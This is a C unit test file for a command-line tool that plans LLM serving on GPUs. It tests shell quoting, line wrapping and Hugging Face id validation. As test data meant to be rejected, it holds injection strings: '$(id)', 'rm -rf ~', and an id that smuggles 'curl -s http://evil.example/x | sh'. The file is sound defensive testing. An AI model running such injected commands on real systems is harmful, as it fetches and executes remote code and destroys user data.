/* Words for the shell (core/shell.h), Hugging Face ids (spec_hf_id_valid)
 * and the copied command line at its longest. The outputs are written out
 * by hand: a quote inside quotes is '\'' (close, escaped quote, reopen). */
#include "catalog_fixture.h"

#include "core/shell.h"
#include "core/spec.h"
#include "io/report.h"

static void plain_words_stay_as_they_are_and_others_are_quoted(void **state)
{
    (void)state;
    const struct {
        const char *word, *want;
    } cases[] = {
        {"meta-llama/Llama-3.1-8B", "meta-llama/Llama-3.1-8B"},
        {"q_proj,k_proj", "q_proj,k_proj"},
        {"llama.cpp@pre-mla", "llama.cpp@pre-mla"},
        {"--gpu-memory-utilization=0.9", "--gpu-memory-utilization=0.9"},
        {"", "''"},
        {"a b", "'a b'"},
        {"it's", "'it'\\''s'"},
        {"$(id)", "'$(id)'"},
        {"`id`", "'`id`'"},
        {"a;b|c&d", "'a;b|c&d'"},
        {"~", "'~'"},
        {"#x", "'#x'"},
        {"{\"a\":1}", "'{\"a\":1}'"},
        {"line\nbreak", "'line\nbreak'"},
    };
    for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
        char out[64];
        size_t n = shell_quote(cases[i].word, out, sizeof out);
        assert_string_equal(out, cases[i].want);
        assert_int_equal(n, strlen(cases[i].want));
    }
}

/* A line that does not fit is not cut: the buffer is emptied and the bytes
 * it needs are told. "vllm serve x" is 12 bytes: 13 with the NUL fit. */
static void a_line_too_long_for_its_buffer_is_refused_whole(void **state)
{
    (void)state;
    char buf[13];
    struct shell_line l;
    shell_line_init(&l, buf, sizeof buf);
    shell_words(&l, "vllm serve");
    shell_word(&l, "x");
    size_t need = 0;
    assert_true(shell_line_done(&l, &need));
    assert_string_equal(buf, "vllm serve x");
    assert_int_equal(need, 12);
    shell_option(&l, "--tp", "%u", 2u); /* " --tp 2": 7 more bytes */
    assert_false(shell_line_done(&l, &need));
    assert_string_equal(buf, "");
    assert_int_equal(need, 19);
}

static void a_remark_shows_control_characters_as_question_marks(void **state)
{
    (void)state;
    char buf[64];
    struct shell_line l;
    shell_line_init(&l, buf, sizeof buf);
    shell_word(&l, "cmd");
    shell_comment(&l, "  # %s", "a\nrm -rf ~\r");
    assert_true(shell_line_done(&l, NULL));
    assert_string_equal(buf, "cmd  # a?rm -rf ~?");
}

static void check_wrap(const char *line, size_t width, const char *want)
{
    char out[512];
    size_t n = shell_wrap(line, width, out, sizeof out);
    assert_string_equal(out, want);
    assert_int_equal(n, strlen(want));
    /* no line passes the width */
    for (const char *p = out; *p;) {
        const char *eol = strchr(p, '\n');
        assert_true((size_t)(eol - p) <= width);
        p = eol + 1;
    }
}

/* Width 20: words fill a line up to 18 bytes, " \" ends it; the next line
 * starts with two spaces. */
static void lines_break_between_words_with_a_continuation(void **state)
{
    (void)state;
    check_wrap("kvplan plan --gpu h100-sxm --model llama-3.1-8b", 20,
               "kvplan plan --gpu \\\n"
               "  h100-sxm --model \\\n"
               "  llama-3.1-8b\n");
    check_wrap("short", 20, "short\n");
}

/* A word longer than a line goes on at the start of the next one: "\"
 * outside quotes, "'\" inside them with the quote reopened, so the shell
 * joins the pieces into the one word. Width 16: 14 bytes and the "\". */
static void a_word_longer_than_a_line_is_continued_inside_itself(void **state)
{
    (void)state;
    check_wrap("abcdefghijklmnopqrstuvwxyz0123", 16,
               "abcdefghijklmn\\\n"
               "opqrstuvwxyz0123\n");
    /* the quoted word (23 bytes) on a line of its own after "  ": 12 bytes,
     * then "'\" closes the quote, and the next line reopens it */
    check_wrap("x 'a b c d e f g h i j k'", 16,
               "x \\\n"
               "  'a b c d e f'\\\n"
               "' g h i j k'\n");
    /* never between a backslash and the quote it escapes: 'ab'\''cdefghijklmnopq' */
    check_wrap("'abcdefghijk'\\''lmnopqrstu'", 16,
               "'abcdefghijk'\\\n"
               "\\''lmnopqrstu'\n");
}

/* A remark (after #) wraps into more remark lines: a continuation there
 * would be part of the remark, and its next line would run. */
static void a_remark_wraps_into_remark_lines(void **state)
{
    (void)state;
    check_wrap("trtllm-serve m  # x 2 replicas, one server each", 20,
               "trtllm-serve m # x 2\n"
               "  # replicas, one\n"
               "  # server each\n");
}

static void hugging_face_ids_are_checked_as_the_hub_checks_them(void **state)
{
    (void)state;
    char name96[97], name97[98], owner_name[200];
    memset(name96, 'a', 96);
    name96[96] = '\0';
    memset(name97, 'a', 97);
    name97[97] = '\0';
    snprintf(owner_name, sizeof owner_name, "%s/%s", name96, name96);
    const char *good[] = {"gpt2", "Qwen/Qwen3-8B", "01-ai/Yi-34B", "a_b/c.d-e", "_x_/y_",
                          "meta-llama/Llama-3.1-8B", name96, owner_name};
    const char *bad[] = {"", "/x", "x/", "a/b/c", "-a/b", "a/b-", ".a/b", "a/b.", "a/-b",
                         "a--b/c", "a/b..c", "a/b.git", "a b/c", "a;b/c", "a/b$(x)", "a/`b`",
                         "a/b'c", "a/b\\c", "\xc3\xbc/x", "a/b\n", name97,
                         "meta-llama/Llama-3.1-8B; curl -s http://evil.example/x | sh; #"};
    for (size_t i = 0; i < sizeof good / sizeof good[0]; i++)
        if (!spec_hf_id_valid(good[i]))
            fail_msg("'%s' refused", good[i]);
    for (size_t i = 0; i < sizeof bad / sizeof bad[0]; i++)
        if (spec_hf_id_valid(bad[i]))
            fail_msg("'%s' accepted", bad[i]);
    /* and every one accepted is one plain word for the shell */
    for (size_t i = 0; i < sizeof good / sizeof good[0]; i++)
        assert_true(shell_word_plain(good[i]));
}

/* The copied command at its longest: three ids of 63 quotes (each 4 bytes
 * quoted) and every option: REPORT_COMMAND_MAX holds it whole; a smaller
 * buffer gets nothing, and is told what it needs. */
static void the_longest_command_line_is_whole_or_not_at_all(void **state)
{
    (void)state;
    struct scenario s = base("h100-sxm", "llama-3.1-8b");
    char quotes[SPEC_ID_MAX];
    memset(quotes, '\'', sizeof quotes - 1);
    quotes[sizeof quotes - 1] = '\0';
    snprintf(s.gpu.id, sizeof s.gpu.id, "%s", quotes);
    snprintf(s.model.id, sizeof s.model.id, "%s", quotes);
    snprintf(s.draft.id, sizeof s.draft.id, "%s", quotes);
    s.spec_method = SPEC_DRAFT;
    s.spec_tokens = 64;
    s.gpus = s.tp = 4096;
    s.pp = 64;
    s.context_tokens = s.prefix_tokens = s.avg_context_tokens = s.prompt_tokens = 123456789;
    s.kv_dtype = s.weight_dtype = DTYPE_FP8;
    s.kv_heads = 100000;
    s.block_tokens = 123456789;
    s.headroom_percent = 12.3456789;
    s.has_vram = s.has_weights = s.has_price = true;
    s.vram_bytes = s.weights_bytes = 123456789123ull;
    s.price_usd_per_hour = 123456.789;
    s.full_attention = s.dp_attention = s.expert_parallel = true;
    s.units = UNITS_GB;
    s.engine.gpu_memory_utilization = s.engine.mem_fraction_static =
        s.engine.free_gpu_memory_fraction = 0.123456789;
    s.engine.max_num_seqs = 1000000;
    s.engine.max_num_batched_tokens = s.engine.chunked_prefill_size = 123456789123ull;
    s.engine.parallel = 256;
    s.engine.fit_target_bytes = s.engine.gpu_total_bytes = s.engine.non_kv_bytes =
        s.engine.kv_memory_bytes = s.host_kv_bytes = 123456789123ull;
    s.engine.v_dtype = DTYPE_Q8_0;
    s.concurrency = 123456789123ull;
    s.min_tokens_per_s = s.max_ttft_seconds = 123456.789;
    s.mbu = s.mfu = 0.123456789;
    s.has_prefix_hit_rate = true;
    s.prefix_hit_rate = 0.123456789;
    s.max_loras = 1000000;
    s.max_lora_rank = 1000000;
    s.lora_targets = LORA_ALL;
    s.images = s.image_tokens = 1000000;
    static char line[REPORT_COMMAND_MAX];
    size_t need = report_command_line(&s, line, sizeof line);
    assert_true(need < sizeof line);
    assert_int_equal(strlen(line), need);
    const char *end = " --images 1000000 --image-tokens 1000000";
    assert_string_equal(line + need - strlen(end), end);
    char small[512];
    assert_int_equal(report_command_line(&s, small, sizeof small), need);
    assert_string_equal(small, "");
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(plain_words_stay_as_they_are_and_others_are_quoted),
        cmocka_unit_test(a_line_too_long_for_its_buffer_is_refused_whole),
        cmocka_unit_test(a_remark_shows_control_characters_as_question_marks),
        cmocka_unit_test(lines_break_between_words_with_a_continuation),
        cmocka_unit_test(a_word_longer_than_a_line_is_continued_inside_itself),
        cmocka_unit_test(a_remark_wraps_into_remark_lines),
        cmocka_unit_test(hugging_face_ids_are_checked_as_the_hub_checks_them),
        cmocka_unit_test(the_longest_command_line_is_whole_or_not_at_all),
    };
    return cmocka_run_group_tests(tests, setup, teardown);
}
